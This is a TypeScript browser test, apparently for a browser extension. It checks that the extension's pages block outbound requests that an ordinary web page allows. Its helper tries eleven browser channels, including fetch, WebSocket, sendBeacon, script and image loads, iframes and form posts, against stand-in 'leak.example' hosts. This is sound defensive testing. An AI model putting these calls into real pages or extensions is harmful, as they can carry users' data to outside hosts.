import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { OTHER_HOST, startTrial, type Trial } from './trial.ts';

let trial: Trial;
beforeAll(async () => {
  trial = await startTrial({ '/elsewhere': '<!doctype html><title>elsewhere</title>' });
});
afterAll(() => trial.close());

/** Each asks a host of its own for something, by its name. */
const ATTEMPTS = [
  ...['fetch', 'request', 'socket', 'events', 'beacon', 'image', 'sheet', 'script', 'module'],
  ...['frame', 'form'],
];

/** Tries all ways out of a page. */
const tryAll = (page: Page) =>
  page.evaluate(() => {
    const at = (name: string) => `//${name}.leak.example/`;
    const add = (tag: string, fields: object) =>
      document.body.append(Object.assign(document.createElement(tag), fields));
    const ways: (() => unknown)[] = [
      () => fetch(`http:${at('fetch')}`, { mode: 'no-cors' }).catch(() => {}),
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', `http:${at('request')}`);
        request.send();
      },
      () => new WebSocket(`ws:${at('socket')}`),
      () => new EventSource(`http:${at('events')}`),
      () => navigator.sendBeacon(`http:${at('beacon')}`, 'x'),
      () => add('img', { src: `http:${at('image')}` }),
      () => add('link', { rel: 'stylesheet', href: `http:${at('sheet')}` }),
      () => add('script', { src: `http:${at('script')}` }),
      () => add('script', { type: 'module', src: `http:${at('module')}` }),
      () => add('iframe', { src: `http:${at('frame')}` }),
      () => {
        add('iframe', { name: 'sink' });
        add('form', { action: `http:${at('form')}`, target: 'sink' });
        document.forms[document.forms.length - 1]?.submit();
      },
    ];
    for (const way of ways)
      try {
        way();
      } catch {
        // Refused at once.
      }
  });

const listLeaks = (from: number) =>
  ATTEMPTS.filter((name) =>
    trial.asked.slice(from).some((url) => url.includes(`${name}.leak.example`)),
  ).sort();

describe('our own pages', () => {
  test('have ways out that a page of the web would have', async () => {
    const page = await trial.open('/elsewhere', OTHER_HOST);
    const from = trial.asked.length;
    await tryAll(page);
    await expect.poll(() => listLeaks(from), { timeout: 10_000 }).toEqual(ATTEMPTS.toSorted());
    await page.close();
  });

  test.each(['popup.html', 'options.html', 'entity.html#kloop-media', 'welcome.html'])(
    '%s: all of them are shut',
    async (path) => {
      const page = await trial.openExtensionPage(path);
      const from = trial.asked.length;
      await tryAll(page);
      // By then whatever had got out would have been asked for.
      const after = await trial.open('/elsewhere', OTHER_HOST);
      await after.evaluate(() => fetch('http://late.leak.example/', { mode: 'no-cors' }));
      expect(trial.asked.slice(from)).toContain('http://late.leak.example/');
      expect(listLeaks(from)).toEqual([]);
      await after.close();
      await page.close();
    },
  );
});
